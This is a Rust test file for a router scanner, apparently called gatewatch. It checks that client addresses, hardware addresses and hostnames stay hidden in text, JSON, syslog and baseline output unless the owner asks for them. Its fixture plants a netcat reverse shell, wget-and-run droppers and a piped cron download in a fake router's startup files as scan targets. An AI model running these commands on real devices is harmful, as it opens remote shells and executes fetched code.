//! Those who are served by a router are people: nothing that gatewatch says shows an address or a name of theirs, whichever
//! check says it and in whatever format, unless the owner asks for that.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use scan::{GATEWATCH, Tree, UNSIGNED, run};

const RECORDINGS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/recordings");

/// What nobody outside may see: parts of addresses, hardware addresses and names of the recording's clients.
const PRIVATE: [&str; 11] = [
    "192.168.1.2",
    "192.168.1.3",
    "02:00:00:aa",
    "02-00-00-aa",
    "020000aa",
    "2001:db8:1:",
    "2001:db8:1::2",
    "anns",
    "toms",
    "nas-home",
    "guest-pc",
];

/// The recording of a router with clients, on which an intruder and an owner have left their addresses and names in all
/// kinds of places.
fn router() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("router");
    let from = Path::new(RECORDINGS).join("linksys-wrt-openwrt-mips-g12-client");
    assert!(Command::new("cp").arg("-a").args([&from, &root]).status().unwrap().success());
    let write = |path: &str, text: &str| {
        let place = root.join("root").join(path);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        fs::write(place, text).unwrap();
    };
    write(
        "etc/rc.local",
        "nc 192.168.1.20 4444 -e /bin/sh\nwget http://nas-home.lan/x -O /tmp/anns-laptop; sh /tmp/anns-laptop\n\
         /tmp/.x/toms-phone --for 02:00:00:aa:bb:21 --at [2001:db8:1::21]:80\n/tmp/run-guest-pc_192.168.1.23.sh &\nexit 0\n",
    );
    write("etc/crontabs/root", "* * * * * wget -qO- http://192.168.1.30/02-00-00-AA-BB-30 | sh\n");
    write("etc/init.d/x", "#!/bin/sh /etc/rc.common\nSTART=99\nstart() { /tmp/020000aabb22 -c EVAS-TV; }\n");
    // A shell on a socket of a client's, and one that hands on what comes from there.
    let tcp = "  sl  local_address rem_address\n   0: C0A80101:0016 C0A80114:C3CA 01 0:0 0:0 0 0 0 9001 1\n\
               \x20  1: C0A80101:115C C0A8011E:C3CB 01 0:0 0:0 0 0 0 9002 1\n";
    write("proc/net/tcp", tcp);
    (dir, root)
}

fn said(root: &Path, options: &[&str]) -> String {
    let mut command = Command::new(GATEWATCH);
    command
        .args(["scan", UNSIGNED, "-v", "--root"])
        .arg(root)
        .arg("--intel")
        .arg(format!("{RECORDINGS}/indicators.gwi"));
    let ran = run(command.args(options));
    format!("{}{}", String::from_utf8(ran.stdout).unwrap(), ran.stderr)
}

#[track_caller]
fn is_private(said: &str) {
    let lower = said.to_lowercase();
    for part in PRIVATE.iter().chain(&["evas-tv"]) {
        let line = lower.lines().find(|line| line.contains(part));
        assert_eq!(line, None, "{part} is shown");
    }
}

#[test]
fn nothing_of_clients_is_shown() {
    let (_dir, root) = router();
    for format in ["text", "json"] {
        let veiled = said(&root, &["--format", format]);
        is_private(&veiled);
        for check in ["startup-volatile", "startup-dropper", "startup-backdoor", "cron-odd", "c2-client"] {
            assert!(veiled.contains(check), "the test needs a finding of {check}: {veiled}");
        }
        assert!(veiled.contains("lan-") && veiled.contains("198.51.100.7:443"));
        let told = said(&root, &["--format", format, "--lan-details"]);
        for part in ["192.168.1.20", "anns-laptop", "02:00:00:aa:bb:20"] {
            assert!(told.contains(part), "{part}: {told}");
        }
    }
}

/// The same for what goes to the log.
#[test]
fn nothing_of_clients_is_logged() {
    let (_dir, root) = router();
    let tree = Tree::new();
    let place = tree.path().join("log");
    let socket = std::os::unix::net::UnixDatagram::bind(&place).unwrap();
    socket.set_read_timeout(Some(std::time::Duration::from_secs(1))).unwrap();
    let lines = |details: &[&str]| {
        let syslog = format!("--syslog={}", place.display());
        let options: Vec<&str> = [&syslog, "-q"].into_iter().chain(details.iter().copied()).collect();
        let root = root.clone();
        let socket = socket.try_clone().unwrap();
        let reader = std::thread::spawn(move || {
            let (mut all, mut buffer) = (String::new(), [0; 2048]);
            while let Ok(length) = socket.recv(&mut buffer) {
                let line = str::from_utf8(&buffer[..length]).unwrap();
                all.push_str(line);
                all.push('\n');
                if line.contains("verdict=") {
                    break;
                }
            }
            all
        });
        let _ = said(&root, &options);
        reader.join().unwrap()
    };
    let veiled = lines(&[]);
    assert!(veiled.contains("check=c2-client sev=suspicious attack=T1071 client=lan-"), "{veiled}");
    is_private(&veiled);
    let told = lines(&["--lan-details"]);
    assert!(told.contains(" client=\"192.168.1.20:50123 02:00:00:aa:bb:20 anns-laptop\" obj=\""), "{told}");
    for line in told.lines().chain(veiled.lines()) {
        assert!(line.len() <= 220 + "<28>Nov 22 10:00:00 ".len(), "{line}");
    }
}

/// Nor in what differs from a baseline: it names where ports lead to.
#[test]
fn nothing_of_clients_is_told_of_a_baseline() {
    let (dir, root) = router();
    let config = root.join("root/etc/config/firewall");
    fs::create_dir_all(config.parent().unwrap()).unwrap();
    let redirect = |ip: &str| {
        format!(
            "config redirect\n\toption name 'x'\n\toption src 'wan'\n\toption src_dport '8080'\n\toption dest_ip '{ip}'\n\toption target 'DNAT'\n"
        )
    };
    fs::write(&config, redirect("192.168.1.30")).unwrap();
    let baseline = dir.path().join("x.gwb");
    let gatewatch = |words: &[&str]| {
        let mut command = Command::new(GATEWATCH);
        let ran = run(command.arg("baseline").args(words).arg("--root").arg(&root).arg("-o").arg(&baseline));
        format!("{}{}", String::from_utf8(ran.stdout).unwrap(), ran.stderr)
    };
    gatewatch(&["create"]);
    fs::write(&config, redirect("192.168.1.20")).unwrap();
    for format in ["text", "json"] {
        let veiled = gatewatch(&["verify", "--format", format]);
        is_private(&veiled);
        assert!(veiled.contains("nat") && veiled.contains("lan-"), "{veiled}");
        assert!(gatewatch(&["verify", "--format", format, "--lan-details"]).contains("192.168.1.20"));
    }
}
